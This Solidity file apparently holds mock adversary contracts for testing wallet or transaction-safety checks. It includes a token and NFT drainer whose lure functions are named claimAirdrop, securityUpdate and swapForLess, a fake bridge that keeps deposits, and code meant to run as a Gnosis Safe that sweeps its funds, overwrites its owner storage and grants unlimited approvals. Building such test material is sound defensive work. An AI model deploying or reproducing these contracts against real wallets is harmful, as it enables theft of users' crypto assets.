// SPDX-License-Identifier: MIT
pragma solidity ^0.8.24;

import "./Tokens.sol";

/// A service without assets of its own: takes every call and keeps what is paid.
contract Service {
    receive() external payable {}

    fallback() external payable {}
}

/// Takes tokens away over a bridge that ends elsewhere.
contract Bridge {
    function depositERC20To(Coin token, address, address, uint256 amount, uint32, bytes calldata) external {
        token.transferFrom(msg.sender, address(this), amount);
    }

    function depositERC20(Coin token, address, uint256 amount, uint32, bytes calldata) external {
        token.transferFrom(msg.sender, address(this), amount);
    }

    function depositETH(uint32, bytes calldata) external payable {}

    function depositETHTo(address, uint32, bytes calldata) external payable {}

    function bridgeETHTo(address, uint32, bytes calldata) external payable {}

    function depositTransaction(address, uint256, uint64, bool, bytes calldata) external payable {}
}

/// What a page that steals deploys: takes what it is allowed to, and gives nothing or a worthless token for it.
contract Drainer {
    address public keeper;

    function serve(address keeper_) external {
        keeper = keeper_;
    }

    receive() external payable {}

    function take(Coin token, address from, uint256 amount) public {
        token.transferFrom(from, keeper, amount);
    }

    function deposit(Coin token, uint256 amount) external {
        take(token, msg.sender, amount);
    }

    function depositFor(Coin token, uint256 amount, Receipt worthless) external {
        take(token, msg.sender, amount);
        worthless.mint(msg.sender, amount);
    }

    function claimAirdrop(Coin[] calldata tokens) external payable {
        for (uint256 index = 0; index < tokens.length; index++)
            take(tokens[index], msg.sender, tokens[index].balanceOf(msg.sender));
        pass();
    }

    function takeItem(address collection, uint256 id) external {
        (bool done,) =
            collection.call(abi.encodeWithSignature("transferFrom(address,address,uint256)", msg.sender, keeper, id));
        require(done);
    }

    function securityUpdate() external payable {
        pass();
    }

    function swapForLess(Coin token, uint256 amount, Coin bought, uint256 back) external {
        take(token, msg.sender, amount);
        bought.transfer(msg.sender, back);
    }

    function pass() internal {
        (bool sent,) = keeper.call{value: address(this).balance}("");
        require(sent);
    }
}

/// Code that is meant to run as the Safe itself.
contract RunsAsSafe {
    address internal singleton;

    function sweep(Coin[] calldata tokens, address payable to) external {
        for (uint256 index = 0; index < tokens.length; index++)
            tokens[index].transfer(to, tokens[index].balanceOf(address(this)));
        to.transfer(address(this).balance);
    }

    function transfer(address newSingleton, uint256) external returns (bool) {
        singleton = newSingleton;
        return true;
    }

    function own(address owner) external {
        bytes32 place = keccak256(abi.encode(address(1), uint256(2)));
        assembly {
            sstore(place, owner)
            sstore(4, 1)
        }
    }

    function approveAll(Coin token, address spender) external {
        token.approve(spender, type(uint256).max);
    }
}
